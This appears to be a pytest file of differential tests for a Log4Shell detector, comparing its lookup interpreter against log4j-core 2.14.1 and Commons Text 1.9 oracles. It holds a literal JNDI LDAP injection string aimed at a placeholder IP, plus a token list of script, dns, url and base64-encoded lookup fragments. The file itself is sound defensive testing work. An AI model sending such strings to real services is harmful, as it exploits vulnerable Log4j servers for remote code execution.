"""Differential tests: the engine names the JNDI lookups log4j-core 2.14.1 makes."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest
from tests.detectors.detect_gen import obfuscated, random_expression

from detectors import commons_text
from detectors.decoding import candidates
from detectors.interpreter import Evaluation, evaluate

pytestmark = pytest.mark.slow

DATA = Path(__file__).resolve().parents[1] / "data"
_ERRORS = {
    "recursion": "IllegalStateException",
    "illegal-argument": "IllegalArgumentException",
}


def _distinct(names: list[str]) -> list[str]:
    return list(dict.fromkeys(names))


def _engine_view(evaluation: Evaluation) -> dict[str, Any]:
    return {
        "jndi": _distinct([c.name for c in evaluation.jndi]),
        "error": _ERRORS.get(evaluation.aborted or ""),
        "output": None if evaluation.aborted else evaluation.output,
    }


def _oracle_view(result: dict[str, Any]) -> dict[str, Any]:
    return {
        "jndi": _distinct(result["jndi"]),
        "error": result["error"],
        "output": result["output"],
    }


def _disagreements(log4j_oracle: Any, texts: list[str]) -> list[tuple[str, Any, Any]]:
    texts = list(dict.fromkeys(texts))
    results = log4j_oracle.run(texts)
    bad = []
    for text, result in zip(texts, results, strict=True):
        evaluation = evaluate(text)
        assert evaluation.limit_hit is None, text
        mine, theirs = _engine_view(evaluation), _oracle_view(result)
        if mine != theirs:
            bad.append((text, mine, theirs))

    return bad


def _corpus_texts() -> list[str]:
    texts = []
    for name in ("payloads.jsonl", "payloads_benign.jsonl"):
        path = DATA / name
        if not path.exists():
            continue
        for line in path.read_text("utf-8").splitlines():
            if not line.strip():
                continue
            case = json.loads(line)
            for candidate in candidates(case["value"], case.get("field", "value")):
                if "${" in candidate.text:
                    texts.append(candidate.text)

    return texts


def test_oracle_loads_log4j_lookup_plugins(log4j_oracle: Any) -> None:
    lookups = set(log4j_oracle.ready["lookups"])

    assert {"jndi", "lower", "upper", "date", "env", "sys", "java", "ctx"} <= lookups


def test_oracle_records_a_jndi_lookup_and_performs_none(log4j_oracle: Any) -> None:
    (result,) = log4j_oracle.run(["${jndi:ldap://198.51.100.7:1389/a}"])

    assert result["jndi"][0] == "ldap://198.51.100.7:1389/a"
    assert result["output"] == "${jndi:ldap://198.51.100.7:1389/a}"


def test_engine_agrees_with_log4j_on_the_corpus(log4j_oracle: Any) -> None:
    texts = _corpus_texts()
    assert len(texts) > 50

    assert _disagreements(log4j_oracle, texts) == []


def test_engine_agrees_with_log4j_on_generated_obfuscations(log4j_oracle: Any) -> None:
    rng = random.Random(44228)
    texts = []
    for _ in range(3000):
        case = obfuscated(rng)
        texts.append(case.evaluated)
        # and every decoded form the engine would evaluate for the sent value
        texts.extend(c.text for c in candidates(case.value) if "${" in c.text)

    assert _disagreements(log4j_oracle, texts) == []


def test_engine_agrees_with_log4j_on_random_lookup_grammar(log4j_oracle: Any) -> None:
    rng = random.Random(45046)
    texts = [random_expression(rng, max_tokens=24) for _ in range(20_000)]
    results = log4j_oracle.run(texts[:2000])

    assert _disagreements(log4j_oracle, texts) == []
    # the grammar reaches the interesting paths, not only trivial strings
    assert sum(bool(r["jndi"]) for r in results) > 50
    assert {r["error"] for r in results} >= {None, "IllegalArgumentException"}


_TEXT_TOKENS = (
    "${",
    "${",
    "}",
    "}",
    ":-",
    ":",
    "$",
    "$$",
    "script:",
    "SCRIPT:",
    "dns:",
    "url:",
    "javascript:1",
    "address|example.com",
    "UTF-8:http://example.com/",
    "Dns:",
    "base64Decoder:",
    "JHtkbnM6YX0=",
    "JHtzY3JpcHQ6eH0=",
    "urlDecoder:",
    "%24%7Burl:u%7D",
    "a",
    "x:-",
    "env:HOME",
    "==",
    "{",
    "-",
)


def test_commons_text_family_agrees_with_commons_text_1_9(log4j_oracle: Any) -> None:
    rng = random.Random(42889)
    texts = [
        "".join(rng.choice(_TEXT_TOKENS) for _ in range(rng.randint(1, 14)))
        for _ in range(8000)
    ]
    texts = list(dict.fromkeys(texts))
    results = log4j_oracle.run(texts, mode="T")
    bad = []
    for text, result in zip(texts, results, strict=True):
        mine = commons_text.evaluate(text)
        if mine.stopped in {"depth", "steps"}:
            continue
        theirs_calls = [tuple(c.split(":", 1)) for c in result["calls"]]
        expected_error = {"recursion": "IllegalStateException"}.get(mine.stopped or "")
        if mine.stopped == "illegal-argument":
            expected_error = "IllegalArgumentException"
        if (mine.calls, expected_error, mine.output) != (
            theirs_calls,
            result["error"],
            result["output"],
        ):
            bad.append((text, mine, result))

    assert bad == []
    assert sum(bool(r["calls"]) for r in results) > 100
